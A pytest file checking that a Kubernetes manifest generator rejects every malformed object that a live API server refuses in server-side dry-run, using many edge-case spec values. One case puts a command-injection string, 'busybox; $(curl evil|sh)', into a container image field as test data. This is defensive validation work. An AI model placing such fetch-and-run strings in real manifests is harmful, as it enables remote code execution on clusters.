"""Synth's verdict agrees with the API server's: whenever the real kube-apiserver refuses an
object (server-side dry-run), synth refused first.

Each case changes a good generated object the way a hostile spec would (the objects synth
would have produced with its validation bypassed) and, where the change comes from a spec
field, also runs that spec through synth. A few valid-but-unusual cases check that the API
server really accepts what synth accepts (so the test can see both verdicts).
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client, dynamic
from kubernetes.client.rest import ApiException

from constructs_lib.errors import UserError
from constructs_lib.render.pipeline import synthesize
from constructs_lib.render.validate import validate_objects
from constructs_lib.spec.kubeschema import DEFAULT_KUBERNETES_VERSION
from tests.conftest import MINIMAL, make_instance, merge, synth_objects
from tests.controlplane.cluster import ControlPlane

pytestmark = [pytest.mark.k8s, pytest.mark.timeout(600)]

NAMESPACE = "hostile"
Objects = dict[str, dict[str, Any]]
Mutation = Callable[[Objects], dict[str, Any]]


def pod(objects: Objects) -> dict[str, Any]:
    spec: dict[str, Any] = objects["StatefulSet/demo"]["spec"]["template"]["spec"]
    return spec


def server(objects: Objects) -> dict[str, Any]:
    container: dict[str, Any] = pod(objects)["containers"][0]
    return container


def on_statefulset(change: Callable[[Objects], None]) -> Mutation:
    def mutate(objects: Objects) -> dict[str, Any]:
        change(objects)
        return objects["StatefulSet/demo"]

    return mutate


def add_env(name: str, **extra: Any) -> Mutation:
    return on_statefulset(
        lambda o: server(o).setdefault("env", []).append({"name": name, "value": "x", **extra})
    )


def add_sidecar(**fields: Any) -> Mutation:
    return on_statefulset(
        lambda o: pod(o)["containers"].append({"name": "side", "image": "busybox:1.36", **fields})
    )


def set_pod(field: str, value: Any) -> Mutation:
    return on_statefulset(lambda o: pod(o).__setitem__(field, value))


def set_in(key: str, path: tuple[str, ...], value: Any) -> Mutation:
    def mutate(objects: Objects) -> dict[str, Any]:
        target = objects[key]
        for part in path[:-1]:
            target = target.setdefault(part, {})
        target[path[-1]] = value
        return objects[key]

    return mutate


def claim_size(size: str) -> Mutation:
    return set_in(
        "PersistentVolumeClaim/demo-data", ("spec", "resources", "requests", "storage"), size
    )


def ingress_host(host: str) -> Mutation:
    """An Ingress of the instance routing ``host`` (the minimal instance has none)."""

    def mutate(objects: Objects) -> dict[str, Any]:
        backend = {"service": {"name": "demo", "port": {"name": "http"}}}
        path = {"path": "/", "pathType": "Prefix", "backend": backend}
        return {
            "apiVersion": "networking.k8s.io/v1",
            "kind": "Ingress",
            "metadata": {"name": "demo", "namespace": NAMESPACE},
            "spec": {"rules": [{"host": host, "http": {"paths": [path]}}]},
        }

    return mutate


def template_meta(field: str, value: dict[str, str]) -> Mutation:
    return on_statefulset(
        lambda o: (
            o["StatefulSet/demo"]["spec"]["template"]["metadata"]
            .setdefault(field, {})
            .update(value)
        )
    )


def rename(key: str, name: str) -> Mutation:
    return set_in(key, ("metadata", "name"), name)


# (case id, mutation of the generated objects, the spec patch that leads there or None)
CASES: list[tuple[str, Mutation, dict[str, Any] | None]] = [
    ("env-name-empty", add_env(""), {"env": [{"name": "", "value": "x"}]}),
    ("env-name-equals", add_env("A=B"), {"env": [{"name": "A=B", "value": "x"}]}),
    ("env-name-newline", add_env("A\nB"), {"env": [{"name": "A\nB", "value": "x"}]}),
    (
        "env-name-non-ascii",
        add_env("\u00c9T\u00c9"),
        {"env": [{"name": "\u00c9T\u00c9", "value": "x"}]},
    ),
    ("env-name-space-relaxed", add_env("MY VAR"), {"env": [{"name": "MY VAR", "value": "x"}]}),
    ("env-name-digit-first", add_env("1ABC"), {"env": [{"name": "1ABC", "value": "x"}]}),
    (
        "env-value-and-value-from",
        add_env("A", valueFrom={"secretKeyRef": {"name": "s", "key": "k"}}),
        {
            "env": [
                {
                    "name": "A",
                    "value": "x",
                    "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}},
                }
            ]
        },
    ),
    (
        "container-name-underscore",
        add_sidecar(name="Bad_Name"),
        {"sidecars": [{"name": "Bad_Name", "image": "b:1"}]},
    ),
    (
        "container-name-64",
        add_sidecar(name="s" * 64),
        {"sidecars": [{"name": "s" * 64, "image": "b:1"}]},
    ),
    (
        "container-name-duplicate",
        add_sidecar(name="paperclip"),
        {"sidecars": [{"name": "paperclip", "image": "b:1"}]},
    ),
    (
        "container-image-whitespace",
        add_sidecar(image=" busybox "),
        {"sidecars": [{"name": "s", "image": " b "}]},
    ),
    (
        "container-port-70000",
        add_sidecar(ports=[{"containerPort": 70000}]),
        {"sidecars": [{"name": "s", "image": "b", "ports": [{"containerPort": 70000}]}]},
    ),
    (
        "container-port-2pow32",
        add_sidecar(ports=[{"containerPort": 2**32 + 80}]),
        {"sidecars": [{"name": "s", "image": "b", "ports": [{"containerPort": 2**32 + 80}]}]},
    ),
    ("host-port-70000", add_sidecar(ports=[{"containerPort": 80, "hostPort": 70000}]), None),
    (
        "port-name-upper",
        add_sidecar(ports=[{"containerPort": 80, "name": "HTTP"}]),
        {
            "sidecars": [
                {"name": "s", "image": "b", "ports": [{"containerPort": 80, "name": "HTTP"}]}
            ]
        },
    ),
    (
        "cpu-negative",
        add_sidecar(resources={"requests": {"cpu": "-1"}}),
        {"resources": {"requests": {"cpu": "-1"}}},
    ),
    (
        "request-over-limit",
        add_sidecar(resources={"requests": {"memory": "2Gi"}, "limits": {"memory": "1Gi"}}),
        {"resources": {"requests": {"memory": "2Gi"}, "limits": {"memory": "1Gi"}}},
    ),
    (
        "quantity-huge-exponent",
        add_sidecar(resources={"limits": {"memory": "1e1000"}}),
        {"resources": {"limits": {"memory": "1e1000"}}},
    ),
    (
        "resource-name-unqualified",
        add_sidecar(resources={"limits": {"gpu": "1"}}),
        {"resources": {"limits": {"gpu": "1"}}},
    ),
    ("run-as-user-negative", add_sidecar(securityContext={"runAsUser": -1}), None),
    (
        "fs-group-2pow40",
        set_pod("securityContext", {"fsGroup": 2**40}),
        {"security": {"podSecurityContext": {"fsGroup": 2**40}}},
    ),
    (
        "volume-name-upper",
        on_statefulset(lambda o: pod(o)["volumes"].append({"name": "Data", "emptyDir": {}})),
        {"extraVolumes": [{"name": "Data", "emptyDir": {}}]},
    ),
    (
        "volume-two-sources",
        on_statefulset(
            lambda o: pod(o)["volumes"].append(
                {"name": "d", "emptyDir": {}, "secret": {"secretName": "s"}}
            )
        ),
        {"extraVolumes": [{"name": "d", "emptyDir": {}, "secret": {"secretName": "s"}}]},
    ),
    (
        "volume-size-negative",
        on_statefulset(
            lambda o: pod(o)["volumes"].append({"name": "d", "emptyDir": {"sizeLimit": "-1Gi"}})
        ),
        {"extraVolumes": [{"name": "d", "emptyDir": {"sizeLimit": "-1Gi"}}]},
    ),
    (
        "mount-missing-volume",
        on_statefulset(
            lambda o: server(o)["volumeMounts"].append({"name": "nope", "mountPath": "/nope"})
        ),
        {"extraVolumeMounts": [{"name": "nope", "mountPath": "/nope"}]},
    ),
    ("priority-class-space", set_pod("priorityClassName", "Bad Class"), None),
    (
        "toleration-operator",
        set_pod("tolerations", [{"key": "k", "operator": "Maybe"}]),
        {"availability": {"tolerations": [{"key": "k", "operator": "Maybe"}]}},
    ),
    (
        "topology-max-skew-zero",
        set_pod(
            "topologySpreadConstraints",
            [{"maxSkew": 0, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"}],
        ),
        {
            "availability": {
                "topologySpreadConstraints": [
                    {"maxSkew": 0, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"}
                ]
            }
        },
    ),
    (
        "grace-2pow63",
        set_pod("terminationGracePeriodSeconds", 2**63),
        {"availability": {"terminationGracePeriodSeconds": 2**63}},
    ),
    (
        "replicas-2pow32",
        set_in("StatefulSet/demo", ("spec", "replicas"), 2**32),
        {"availability": {"replicas": 2**32}},
    ),
    ("storage-zero", claim_size("0"), {"storage": {"persistence": {"size": "0"}}}),
    ("storage-negative", claim_size("-5Gi"), {"storage": {"persistence": {"size": "-5Gi"}}}),
    (
        "annotations-over-256k",
        template_meta("annotations", {f"k{i}": "v" * 70_000 for i in range(4)}),
        {"podAnnotations": {f"k{i}": "v" * 70_000 for i in range(4)}},
    ),
    (
        "annotation-key-bad",
        template_meta("annotations", {"-bad": "x"}),
        {"podAnnotations": {"-bad": "x"}},
    ),
    (
        "annotation-key-upper-prefix-ok",
        template_meta("annotations", {"Example.com/a": "x"}),
        {"podAnnotations": {"Example.com/a": "x"}},
    ),
    ("label-value-64", template_meta("labels", {"a": "x" * 64}), None),
    ("label-value-line-break", template_meta("labels", {"a": "x\n"}), None),
    (
        "annotation-key-line-break",
        template_meta("annotations", {"a\n": "x"}),
        {"podAnnotations": {"a\n": "x"}},
    ),
    (
        "storage-line-break",
        claim_size("5Gi\n"),
        {"storage": {"persistence": {"size": "5Gi\n"}}},
    ),
    ("label-key-space", template_meta("labels", {"a b": "x"}), None),
    ("config-key-space", set_in("ConfigMap/demo-config", ("data", "a b"), "x"), None),
    (
        "config-over-1mib",
        set_in("ConfigMap/demo-config", ("data", "big"), "x" * (1024 * 1024 + 10)),
        None,
    ),
    ("service-name-digit", rename("Service/demo", "1demo"), None),
    (
        "ingress-host-upper",
        ingress_host("Paperclip.Example.com"),
        {
            "networking": {
                "ingress": {
                    "enabled": True,
                    "ingressClassName": "nginx",
                    "hosts": ["Paperclip.Example.com"],
                }
            }
        },
    ),
    ("ingress-host-lower-ok", ingress_host("paperclip.example.com"), None),
    (
        "service-port-zero",
        set_in("Service/demo", ("spec", "ports"), [{"port": 0, "targetPort": 80}]),
        {"networking": {"service": {"port": 0}}},
    ),
    ("namespace-upper", set_in("ServiceAccount/demo", ("metadata", "namespace"), "Hostile"), None),
    # Lists merged by key (x-kubernetes-list-map-keys): server-side apply refuses a repeated key
    # (a plain create accepts it), and so does synth.
    (
        "env-name-duplicate",
        on_statefulset(
            lambda o: (
                server(o)
                .setdefault("env", [])
                .extend([{"name": "A", "value": "1"}, {"name": "A", "value": "2"}])
            )
        ),
        {"env": [{"name": "A", "value": "1"}, {"name": "A", "value": "2"}]},
    ),
    (
        "env-overrides-generated-secret",
        add_env("PAPERCLIP_SECRETS_MASTER_KEY"),
        {"env": [{"name": "PAPERCLIP_SECRETS_MASTER_KEY", "value": "x"}]},
    ),
    (
        "env-overrides-generated-literal-ok",
        add_env("PAPERCLIP_LOG_LEVEL"),
        {"env": [{"name": "PAPERCLIP_LOG_LEVEL", "value": "debug"}]},
    ),
    (
        "sidecar-env-duplicate",
        add_sidecar(env=[{"name": "A", "value": "1"}, {"name": "A", "value": "2"}]),
        {
            "sidecars": [
                {
                    "name": "s",
                    "image": "b:1",
                    "env": [{"name": "A", "value": "1"}, {"name": "A", "value": "2"}],
                }
            ]
        },
    ),
    (
        "pull-secrets-duplicate",
        set_pod("imagePullSecrets", [{"name": "r"}, {"name": "r"}]),
        {"image": {"pullSecrets": [{"name": "r"}, {"name": "r"}]}},
    ),
    (
        "container-port-duplicate",
        add_sidecar(ports=[{"containerPort": 80}, {"containerPort": 80}]),
        {
            "sidecars": [
                {
                    "name": "s",
                    "image": "b:1",
                    "ports": [{"containerPort": 80}, {"containerPort": 80}],
                }
            ]
        },
    ),
    (
        "container-port-duplicate-default-protocol",
        add_sidecar(ports=[{"containerPort": 80}, {"containerPort": 80, "protocol": "TCP"}]),
        {
            "sidecars": [
                {
                    "name": "s",
                    "image": "b:1",
                    "ports": [{"containerPort": 80}, {"containerPort": 80, "protocol": "TCP"}],
                }
            ]
        },
    ),
    (
        "container-port-other-protocol-ok",
        add_sidecar(ports=[{"containerPort": 53}, {"containerPort": 53, "protocol": "UDP"}]),
        {
            "sidecars": [
                {
                    "name": "s",
                    "image": "b:1",
                    "ports": [{"containerPort": 53}, {"containerPort": 53, "protocol": "UDP"}],
                }
            ]
        },
    ),
    (
        "topology-spread-duplicate",
        set_pod(
            "topologySpreadConstraints",
            [
                {"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
                {"maxSkew": 2, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
            ],
        ),
        {
            "availability": {
                "topologySpreadConstraints": [
                    {"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
                    {"maxSkew": 2, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
                ]
            }
        },
    ),
    (
        "container-image-shell",
        add_sidecar(image="busybox; $(curl evil|sh)"),
        {"sidecars": [{"name": "s", "image": "busybox; $(curl evil|sh)"}]},
    ),
]


# What the API server (1.36) does with the cases it does not refuse:
ACCEPTED = {
    "ingress-host-lower-ok",
    "service-name-digit",  # RelaxedServiceNameValidation (1.36); older servers refuse it
    "env-name-space-relaxed",  # RelaxedEnvironmentVariableValidation: synth accepts too
    "env-name-digit-first",
    "container-image-whitespace",  # refused only when a pod is created from the template
    "quantity-huge-exponent",
    "annotation-key-upper-prefix-ok",  # annotation keys are checked lower-cased
    "env-overrides-generated-literal-ok",  # the generated literal is in the ConfigMap (envFrom)
    "container-port-other-protocol-ok",  # ports are merged by containerPort and protocol
    "container-image-shell",  # refused only when a pod is created; synth checks the grammar
}
SYNTH_ACCEPTS = {
    "env-name-space-relaxed",
    "env-name-digit-first",
    "annotation-key-upper-prefix-ok",
    "env-overrides-generated-literal-ok",
    "container-port-other-protocol-ok",
}
# accepted, but stored as another number: synth must refuse these above all
WRAPPED = {
    "container-port-2pow32": ("spec", "template", "spec", "containers", 1, "ports", 0),
    "grace-2pow63": ("spec", "template", "spec"),
    "replicas-2pow32": ("spec",),
}
WRAPPED_FIELD = {
    "container-port-2pow32": ("containerPort", 2**32 + 80),
    "grace-2pow63": ("terminationGracePeriodSeconds", 2**63),
    "replicas-2pow32": ("replicas", 2**32),
}


def dig(value: Any, path: tuple[str | int, ...]) -> Any:
    for part in path:
        value = value[part]
    return value


def dry_run(plane: ControlPlane, obj: dict[str, Any]) -> tuple[str | None, dict[str, Any]]:
    """(the API server's refusal or None, the object as it would be stored) for a
    server-side apply in dry-run mode."""
    dyn = dynamic.DynamicClient(plane.api_client())
    resource = dyn.resources.get(api_version=obj["apiVersion"], kind=obj["kind"])
    try:
        stored = resource.server_side_apply(
            body=obj,
            namespace=obj["metadata"].get("namespace") or NAMESPACE,
            field_manager="hostile-agreement",
            force_conflicts=True,
            dry_run="All",
        )
    except ApiException as exc:
        if exc.status in (400, 403, 404, 413, 422, 500):
            return f"{exc.status}: {str(exc.body)[:300]}", {}
        raise
    result: dict[str, Any] = stored.to_dict()
    return None, result


def synth_refuses_spec(tmp_path: Path, patch: dict[str, Any]) -> bool:
    app = tmp_path / "hostile.yaml"
    document = merge(MINIMAL, {"spec": patch, "metadata": {"namespace": NAMESPACE}})
    app.write_text(yaml.safe_dump(document))
    try:
        synthesize([app], DEFAULT_KUBERNETES_VERSION)
    except UserError:
        return True
    return False


@pytest.fixture(scope="module")
def good_objects() -> Objects:
    return synth_objects(make_instance({}, name="demo", namespace=NAMESPACE))


def test_whenever_the_api_server_refuses_synth_refused_first(
    control_plane: ControlPlane, good_objects: Objects, tmp_path: Path
) -> None:
    core = client.CoreV1Api(control_plane.api_client())
    try:
        core.create_namespace({"metadata": {"name": NAMESPACE}})
    except ApiException as exc:
        if exc.status != 409:
            raise
    for obj in good_objects.values():  # the baseline: every good object is accepted
        assert dry_run(control_plane, obj)[0] is None, obj["kind"]
    disagreements = []
    for case, mutate, patch in CASES:
        objects = copy.deepcopy(good_objects)
        obj = mutate(objects)
        refusal, stored = dry_run(control_plane, obj)
        synth = bool(validate_objects([obj], DEFAULT_KUBERNETES_VERSION, file="x", instance="demo"))
        spec_synth = synth_refuses_spec(tmp_path, patch) if patch is not None else None
        verdict = "refuse" if refusal else "accept"
        print(f"{case:32} api={verdict:6} synth-object={synth} synth-spec={spec_synth}")
        if refusal is not None and (not synth or spec_synth is False):
            disagreements.append(f"{case}: API refused ({refusal}); synth: {synth}/{spec_synth}")
        if case in ACCEPTED or case in WRAPPED:
            assert refusal is None, f"{case}: now refused by the API server: {refusal}"
        else:
            assert refusal is not None, f"{case}: the API server accepts it"
        if case in WRAPPED:
            field, sent = WRAPPED_FIELD[case]
            kept = dig(stored, WRAPPED[case]).get(field)
            assert kept != sent, f"{case}: stored as sent"
            print(f"{case:32} sent {sent}, the API server would store {kept}")
            assert synth and spec_synth, f"{case}: the API server stores {kept}; synth must refuse"
        if case in SYNTH_ACCEPTS:
            assert not synth, f"{case}: synth refuses what the API server accepts"
    assert not disagreements, "\n".join(disagreements)
